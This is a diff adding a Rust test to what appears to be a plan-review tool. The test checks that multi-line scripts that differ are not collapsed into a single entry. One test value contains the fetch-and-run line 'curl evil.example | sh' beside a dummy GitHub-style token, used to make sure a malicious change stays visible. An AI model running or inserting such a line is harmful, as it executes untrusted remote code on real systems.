@@ -225,6 +225,39 @@ fn mask_hides_value_that_equals_a_part_of_a_credential() {
 }
 
 /// Equal changes are those of equal values.
+/// Of a text of several lines, only the first is shown: a script that downloads another one was joined with two that do
+/// not.
+#[test]
+fn texts_of_several_lines_that_differ_are_not_one_entry() {
+    let script =
+        |command: &str| format!("#!/bin/sh\n{command}\nexport T=ghp_{}\n", "Qw3r".repeat(9));
+    for is_encoded in [false, true] {
+        for before in [Value::Null, json!({ "v": "" })] {
+            let change = |name: &str, command: &str| {
+                let text = script(command);
+                let value = if is_encoded {
+                    base64(text.as_bytes())
+                } else {
+                    text
+                };
+                resource(name, &before, &json!({ "v": value }))
+            };
+            let plan = plan(&[
+                change("web", "echo start"),
+                change("api", "echo start"),
+                change("jobs", "curl evil.example | sh"),
+            ]);
+            for (output, text) in outputs(&plan) {
+                if output == "review as json" {
+                    continue;
+                }
+                let is_joined = text.contains("3 × ") || text.contains("× 3");
+                assert!(!is_joined, "{output}, encoded {is_encoded}: {text}");
+            }
+        }
+    }
+}
+
 #[test]
 fn mask_joins_no_changes_with_different_credentials() {
     for seed in first_seed()..first_seed() + cases(3) {
